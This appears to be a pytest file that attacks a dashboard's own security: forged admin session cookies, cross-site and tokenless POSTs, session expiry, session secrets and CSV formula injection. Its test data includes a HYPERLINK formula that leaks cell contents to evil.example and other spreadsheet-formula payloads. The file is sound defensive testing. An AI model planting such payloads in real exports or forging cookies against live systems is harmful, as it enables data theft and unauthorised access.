"""Dashboard sessions and forms as an attacker would try them: forged cookies, cookies after a key
is removed, cross-site and tokenless POSTs, the session secret, `Secure` cookies, `barometer serve`
without keys, and exported CSV cells that a spreadsheet would run.

The workspace is tests/serving's, with CRM text shaped like spreadsheet formulas planted in the
latest scoring run (an account id, a segment, an owner and a team).
"""

from __future__ import annotations

import csv
import hashlib
import io
import logging
import os

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from itsdangerous import Signer, URLSafeTimedSerializer
from typer.testing import CliRunner

from barometer.model.store import StaticProvider
from barometer.settings import Settings, get_settings
from features.warehouse import connect
from serving.app import ServeOptions, create_app
from serving.auth import load_keyring
from serving.dashboard import session
from tests.dashboard.conftest import ORIGIN, form_token, post_form
from tests.serving.conftest import KEYS, build_workspace, champion_models, keyed_settings

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLANTED = {"segment": FORMULA, "owner_rep_id": "+SUM(1,2)", "team": "@cmd"}
PLANTED_ID = "-2+3"  # an account id that is also a formula
PAGES = [
    "/dashboard/worklist",
    "/dashboard/worklist.csv",
    "/dashboard/accounts/A001",
    "/dashboard/opportunities",
    "/dashboard/models",
    "/dashboard/drivers",
    "/dashboard/contribution",
]
POSTS = [
    "/dashboard/login",
    "/dashboard/logout",
    "/dashboard/accounts/A001/what-if",
    "/dashboard/opportunities/O001/what-if",
]


@pytest.fixture(scope="module")
def models():
    return champion_models()


@pytest.fixture(scope="module")
def settings(tmp_path_factory, models) -> Settings:
    home = tmp_path_factory.mktemp("sessions") / "workspace"
    build_workspace(home, models)
    with connect(home / "warehouse.duckdb") as con:
        assignments = ", ".join(f"{column} = ?" for column in PLANTED)
        con.execute(
            f"update scores set {assignments} where entity_id = 'A001'", list(PLANTED.values())
        )
        con.execute("update scores set entity_id = ? where entity_id = 'A002'", [PLANTED_ID])
    return keyed_settings(home)


@pytest.fixture(scope="module")
def client(settings, models):
    options = ServeOptions(poll_seconds=3600)
    app = create_app(settings, provider=StaticProvider(models), options=options)
    with TestClient(app, follow_redirects=False) as test_client:
        yield test_client


def sign_in(client, role: str) -> str:
    """A fresh session for `role`; returns its cookie."""
    client.cookies.clear()
    fields = {"key": KEYS[role]}
    response = post_form(client, "/dashboard/login", fields, token_from="/dashboard/login")
    assert response.status_code == 303, response.text
    return client.cookies.get(session.COOKIE)


def use(client, cookie: str | None) -> None:
    client.cookies.clear()
    if cookie is not None:
        client.cookies.set(session.COOKIE, cookie, path="/dashboard")


# --- forged cookies ------------------------------------------------------------------------------


def digest_secret(entries) -> bytes:
    """A secret anyone can compute from the keyring's digests alone (no workspace secret): with
    zero keys, the constant `sha256("barometer-dashboard-session")`."""
    digest = hashlib.sha256(session.SALT.encode())
    for known, role in entries:
        digest.update(known + bytes([int(role)]))
    digest.update(b"")
    return digest.digest()


def test_forged_admin_cookies_open_no_page(client):
    """Cookies forged as `{"role": "admin"}` with secrets an attacker can compute (the zero-key
    constant; the key digests, e.g. from a leaked hash list) or with a made-up session id."""
    keyring = client.app.state.service.keyring
    forged = [
        URLSafeTimedSerializer(secret, salt=session.SALT).dumps({"role": "admin"})
        for secret in (digest_secret(()), digest_secret(keyring.entries))
    ]
    forged.append(Signer(b"guessed", salt=session.SALT).sign("made-up-session-id").decode())
    opened = []
    for cookie in forged:
        use(client, cookie)
        for page in PAGES:
            response = client.get(page)
            if (
                response.status_code != 303
                or "/dashboard/login" not in response.headers["location"]
            ):
                opened.append((page, response.status_code))
    client.cookies.clear()
    assert not opened, opened


# --- cross-site and tokenless POSTs --------------------------------------------------------------


def post(client, path: str, token: str | None, headers: dict):
    fields = {"key": KEYS["admin"], "change:open_cases": "0"}
    data = fields if token is None else {**fields, "csrf": token}
    return client.post(path, data=data, headers=headers)


def test_cross_site_and_tokenless_posts_are_refused(client):
    """Every dashboard POST needs this site's `Origin` (or `Referer`) and its form's token; a
    refused POST changes nothing: no session starts, none ends, no what-if runs."""
    sign_in(client, "manager")
    other_session_token = form_token(client.get("/dashboard/worklist").text)
    cookie = sign_in(client, "admin")
    tokens = {
        "/dashboard/login": form_token(client.get("/dashboard/login").text),
        "/dashboard/logout": form_token(client.get("/dashboard/worklist").text),
    }
    tokens["/dashboard/accounts/A001/what-if"] = tokens["/dashboard/logout"]
    tokens["/dashboard/opportunities/O001/what-if"] = tokens["/dashboard/logout"]
    attempts = {
        "another site": ({"Origin": "https://evil.example"}, "valid"),
        "another port": ({"Origin": "http://testserver:8081"}, "valid"),
        "opaque origin": ({"Origin": "null"}, "valid"),
        "another site's referer": ({"Referer": "https://evil.example/page"}, "valid"),
        "no origin or referer": ({}, "valid"),
        "no token": ({"Origin": ORIGIN}, None),
        "a made-up token": ({"Origin": ORIGIN}, "0" * 64),
        "another session's token": ({"Origin": ORIGIN}, other_session_token),
    }
    others = {k: v for k, v in client.cookies.items() if k != session.COOKIE}  # the form's own

    def restore() -> None:
        use(client, cookie)
        for other, value in others.items():
            client.cookies.set(other, value, path="/dashboard")

    accepted = []
    for path in POSTS:
        for name, (headers, token) in attempts.items():
            restore()
            response = post(client, path, tokens[path] if token == "valid" else token, headers)
            started = session.COOKIE in response.headers.get("set-cookie", "")
            if response.status_code != 403 or started:
                accepted.append((path, name, response.status_code))
            restore()
            assert client.get("/dashboard/worklist").status_code == 200, (path, name)
    assert not accepted, accepted
    same_site = {"Referer": f"{ORIGIN}/dashboard/accounts/A001"}  # a browser without Origin
    page = post(client, "/dashboard/accounts/A001/what-if", tokens["/dashboard/logout"], same_site)
    assert page.status_code == 200 and "data-after" in page.text
    client.cookies.clear()


def test_every_dashboard_post_is_covered(client):
    from fastapi.routing import APIRoute

    from serving.dashboard.pages import page_routers

    routes = [r for router in page_routers() for r in router.routes]
    posts = {r.path for r in routes if isinstance(r, APIRoute) and "POST" in r.methods}
    ids = {"A001": "{account_id}", "O001": "{opportunity_id}"}
    assert posts == {p.replace("A001", ids["A001"]).replace("O001", ids["O001"]) for p in POSTS}


def test_every_post_form_carries_a_token(client):
    """The sign-in, sign-out and what-if forms as the pages render them (GET forms, the filters,
    carry none: a token in a URL would leak through history and logs)."""
    client.cookies.clear()
    pages = [client.get("/dashboard/login").text]
    sign_in(client, "retention")
    pages.append(client.get("/dashboard/accounts/A001").text)
    pages.append(client.get("/dashboard/opportunities/O001").text)
    client.cookies.clear()
    forms = [f for page in pages for f in page.split("<form")[1:]]
    posts = [f for f in forms if 'method="post"' in f.split(">", 1)[0]]
    assert len(posts) == 5  # sign-in; sign-out and what-if on the account and the deal page
    assert all('name="csrf" value="' in f.split("</form>", 1)[0] for f in posts)


# --- sessions end --------------------------------------------------------------------------------


def test_removing_a_key_ends_its_sessions_and_its_api_access(tmp_path, models):
    from serving.app import reload_keys

    keys_file = tmp_path / "api-keys"
    keys_file.write_text(f"retention:{KEYS['retention']}\nmanager:{KEYS['manager']}\n")
    build_workspace(tmp_path / "w", models)
    settings = Settings(home=tmp_path / "w", api_keys_file=keys_file)
    app = create_app(settings, provider=StaticProvider(models), options=ServeOptions())
    with TestClient(app, follow_redirects=False) as fresh:
        retention, manager = sign_in(fresh, "retention"), sign_in(fresh, "manager")
        keys_file.write_text(f"manager:{KEYS['manager']}\n")
        assert reload_keys(app)  # what the service's poll loop does when the file changes
        api = fresh.get("/v1/accounts", headers={"X-API-Key": KEYS["retention"]})
        assert api.status_code == 401
        use(fresh, retention)
        assert fresh.get("/dashboard/worklist").status_code == 303
        use(fresh, manager)
        assert fresh.get("/dashboard/worklist").status_code == 200
        keys_file.write_text("manager:short\n")  # a broken file keeps the keys in force
        assert not reload_keys(app)
        assert fresh.get("/dashboard/worklist").status_code == 200


def test_sessions_expire_on_the_server():
    now = [1000.0]
    store = session.SessionStore(b"s" * 32, max_age=60, clock=lambda: now[0])
    keyring = load_keyring(f"retention:{KEYS['retention']}", None)
    identity, role = keyring.match(KEYS["retention"])
    cookie = store.start(role, identity)
    assert store.get(cookie, keyring).role is role
    now[0] += 61
    assert store.get(cookie, keyring) is None and not store.sessions


# --- the session secret --------------------------------------------------------------------------


def test_session_secret_is_random_per_workspace_private_and_stable(tmp_path):
    first, second = Settings(home=tmp_path / "a"), Settings(home=tmp_path / "b")
    secret = session.workspace_secret(first)
    assert session.workspace_secret(first) == secret != session.workspace_secret(second)
    assert first.session_secret_path.stat().st_mode & 0o777 == 0o600
    assert len(secret) >= session.MIN_SECRET_CHARS
    keyring = load_keyring(f"retention:{KEYS['retention']}", None)
    rotated = load_keyring(f"retention:{KEYS['manager']}", None)
    signing = session.secret_for(keyring, secret)
    assert signing != session.secret_for(rotated, secret)  # rotating keys rotates sessions
    assert signing != session.secret_for(keyring, session.workspace_secret(second))
    configured = Settings(home=tmp_path / "c", session_secret="x" * 40)
    assert session.workspace_secret(configured) == b"x" * 40
    assert not configured.session_secret_path.exists()
    with pytest.raises(ValueError, match="shorter"):
        session.workspace_secret(Settings(home=tmp_path / "d", session_secret="short"))
    os.chmod(first.session_secret_path, 0o644)
    with pytest.raises(PermissionError, match="chmod 600"):
        session.workspace_secret(first)


def test_secure_cookies_by_bind_address_and_setting(settings, models):
    from serving.cli import secure_cookies_for

    assert secure_cookies_for("0.0.0.0", None) and secure_cookies_for("10.1.2.3", None)
    assert not secure_cookies_for("127.0.0.1", None) and not secure_cookies_for("localhost", None)
    assert not secure_cookies_for("0.0.0.0", False) and secure_cookies_for("127.0.0.1", True)
    options = ServeOptions(poll_seconds=3600, secure_cookies=True)
    app = create_app(settings, provider=StaticProvider(models), options=options)
    with TestClient(app, follow_redirects=False) as secure:
        form = secure.get("/dashboard/login")
        assert "Secure" in form.headers["set-cookie"]
        nonce = form.cookies[session.SIGN_IN_COOKIE]
        secure.cookies.set(session.SIGN_IN_COOKIE, nonce, path="/dashboard")
        data = {"key": KEYS["retention"], "csrf": form_token(form.text)}
        response = secure.post("/dashboard/login", data=data, headers={"Origin": ORIGIN})
        assert response.status_code == 303
        cookie = next(c for c in response.headers.get_list("set-cookie") if session.COOKIE in c)
        assert "Secure" in cookie and "HttpOnly" in cookie


# --- barometer serve -----------------------------------------------------------------------------


@pytest.fixture
def serve_cli(tmp_path, monkeypatch):
    """`barometer serve` with the server replaced by a recorder (nothing is bound)."""
    from barometer.cli import app
    from serving import cli as serving_cli
    from serving.observability import LOGGER

    calls = []
    monkeypatch.setattr(
        serving_cli,
        "run_server",
        lambda served, host, port: calls.append((served, {"host": host, "port": port})),
    )
    for name in ("BAROMETER_API_KEYS", "BAROMETER_API_KEYS_FILE", "BAROMETER_SESSION_SECRET"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("BAROMETER_HOME", str(tmp_path / "w"))
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'mlflow.db'}")
    get_settings.cache_clear()

    def invoke(*args: str):
        result = CliRunner().invoke(app, ["serve", *args])
        return result, calls

    yield invoke
    get_settings.cache_clear()
    logging.getLogger(LOGGER).handlers = []


def test_serve_refuses_to_start_without_keys(serve_cli):
    result, calls = serve_cli()
    assert result.exit_code == 1 and not calls
    assert "No API keys are configured" in result.output and "make demo-key" in result.output


def test_insecure_demo_binds_loopback_with_a_throwaway_key(serve_cli):
    result, calls = serve_cli("--insecure-demo", "--host", "0.0.0.0")
    assert result.exit_code == 2 and not calls and "127.0.0.1" in result.output
    result, calls = serve_cli("--insecure-demo")
    assert result.exit_code == 0, result.output
    ((served, kwargs),) = calls
    assert kwargs["host"] == "127.0.0.1" and "INSECURE DEMO" in result.output
    key = next(w for w in result.output.split() if w.startswith("admin:")).split(":", 1)[1]
    assert (
        served.state.service.keyring.role_of(key).name == "admin"
        and len(served.state.service.keyring) == 1
    )
    assert served.state.service.dashboard.secure_cookie is False


# --- exported CSV --------------------------------------------------------------------------------


def test_worklist_csv_neutralises_formula_cells_and_keeps_numbers(client):
    sign_in(client, "retention")
    for query in ({}, {"sort": "arr_at_risk"}, {"segment": FORMULA}, {"q": "2+3"}):
        response = client.get("/dashboard/worklist.csv", params=query)
        assert response.status_code == 200, query
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert rows, query
        for row in rows:
            for column in ("probability", "change", "arr", "arr_at_risk"):
                if row[column]:
                    float(row[column])  # a number, never a quoted one
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
    rows = list(csv.DictReader(io.StringIO(client.get("/dashboard/worklist.csv").text)))
    planted = next(r for r in rows if r["account_id"] == "'" + PLANTED_ID)
    assert planted["account_id"] == "'-2+3"
    first = next(r for r in rows if r["account_id"] == "A001")
    assert [first[c] for c in PLANTED] == ["'" + v for v in PLANTED.values()]
    negative = [r["change"] for r in rows if r["change"].startswith("-")]
    assert negative and all(float(c) < 0 for c in negative)  # negative numbers stay numbers
    client.cookies.clear()


def test_score_out_csv_neutralises_text_cells_only(tmp_path):
    from barometer.scoring.job import write_out

    frame = pd.DataFrame(
        {
            "account_id": [PLANTED_ID, "A1", "\tA2", "\rA3"],
            "probability": [0.25, 0.5, 0.125, 0.75],
            "change": [-0.05, 0.25, -1.0, None],
            "reasons": [FORMULA, "Fewer calls", "@SUM(A1:A9)", "-ten"],
        }
    )
    out = write_out(frame, tmp_path / "scores.csv")
    back = pd.read_csv(out, dtype={"account_id": str, "reasons": str})
    assert back["account_id"].tolist() == ["'-2+3", "A1", "'\tA2", "'\rA3"]
    assert back["reasons"].tolist() == ["'" + FORMULA, "Fewer calls", "'@SUM(A1:A9)", "'-ten"]
    assert back["change"].tolist()[:3] == [-0.05, 0.25, -1.0]
    assert back["probability"].tolist() == [0.25, 0.5, 0.125, 0.75]
